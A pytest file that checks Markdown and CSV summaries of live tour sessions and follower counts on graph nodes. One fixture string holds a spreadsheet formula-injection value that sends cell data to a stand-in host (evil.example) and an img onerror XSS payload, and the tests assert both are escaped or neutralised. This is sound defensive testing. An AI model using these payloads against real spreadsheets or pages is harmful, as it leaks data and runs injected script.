"""A live session's summary (Markdown, CSV) and the presenter's graph with
detached followers counted on their pages, over the explorer's test tour."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from heuristica.kb.knowledge import KnowledgeGraph
from heuristica.kb.loader import load_knowledge
from heuristica.kb.model import Tour
from heuristica.tours.audience import Presence, Raised, RoomState
from heuristica.tours.path import tour_drawing, with_counts
from heuristica.tours.summary import step_times, summary_csv, summary_markdown

FIXTURE_KB = Path(__file__).parent / "fixtures" / "explorer_kb"
TOUR = "first-steps"
START = 1_780_000_000.0
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1) <img src=x onerror=alert(1)> **why**'


@pytest.fixture(scope="module")
def base() -> tuple[dict[str, Tour], dict[str, str], KnowledgeGraph]:
    result = load_knowledge(FIXTURE_KB)
    kg = KnowledgeGraph(result.pages)
    titles = {s.page: kg.page(s.page).title for t in result.tours.values() for s in t.steps}
    return dict(result.tours), titles, kg


def room() -> RoomState:
    return RoomState(
        present=(Presence("f1", True, TOUR, 1, "Ana"), Presence("f2", False, TOUR, 3)),
        left=1,
        answers=((TOUR, 0, "f1", 1), (TOUR, 0, "f2", 1), (TOUR, 0, "f3", 0)),
        raised=(
            Raised("h", "f2", "hand", "", TOUR, 0, START + 30, "Ana"),
            Raised("q", "f3", "question", HOSTILE, TOUR, 1, START + 100),
        ),
        answered=frozenset({"h"}),
        revealed=frozenset({(TOUR, 0)}),
        timeline=((START, TOUR, 0), (START + 90, TOUR, 1), (START + 150, TOUR, 0)),
    )


def test_time_per_step_adds_up_each_stay_until_she_moved_on():
    times = step_times(room(), until=START + 200)
    assert [(t.step, t.seconds, t.visits) for t in times] == [(0, 140.0, 2), (1, 60.0, 1)]


def test_the_markdown_summary_has_steps_answers_and_questions_escaped_and_no_names(base):
    tours, titles, _ = base
    text = summary_markdown("K7QXM4P", room(), tours, titles, until=START + 200)
    assert text.startswith("# Live session K7QXM4P\n")
    assert "| first\\-steps | 1 | Polars\\: use spawn, not fork | 2:20 | 2 |" in text
    assert "| spawn | yes | 2 |" in text and "| fork |  | 1 |" in text
    assert "hand raised (lost on this step), answered" in text
    assert "question, not marked answered: \\=HYPERLINK" in text
    assert "<img" not in text.replace("\\<img", "")
    assert "Ana" not in text and "f1" not in text


def test_the_csv_summary_has_one_row_per_step_answer_and_question_no_formula_runs(base):
    tours, titles, _ = base
    rows = list(csv.DictReader(io.StringIO(summary_csv("K7QXM4P", room(), tours, titles, START))))
    sections = [row["section"] for row in rows]
    assert sections == ["step", "step", "answer", "answer", "hand", "question"]
    question = rows[-1]
    assert question["text"] == "'" + HOSTILE and question["detail"] == "open"
    assert rows[2]["text"] == "fork" and rows[2]["value"] == "1"
    assert rows[3]["detail"] == "right" and rows[3]["value"] == "2"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_an_empty_room_says_nothing_was_answered_or_raised(base):
    tours, titles, _ = base
    text = summary_markdown("K7QXM4P", RoomState(), tours, titles, until=START)
    assert "No check question was answered." in text and "None were raised." in text


def test_detached_followers_are_counted_on_the_pages_they_are_on(base):
    tours, _, kg = base
    drawing = tour_drawing(tours[TOUR], kg, current=0)
    counted = with_counts(drawing, {"principle/process-start-methods": 2})
    labels = {node.id: node.label for node in counted.nodes}
    plain = {node.id: node.label for node in drawing.nodes}
    assert labels["principle/process-start-methods"].endswith("\n(2 here)")
    assert all(labels[n] == plain[n] for n in plain if n != "principle/process-start-methods")
    assert with_counts(drawing, {}) is drawing
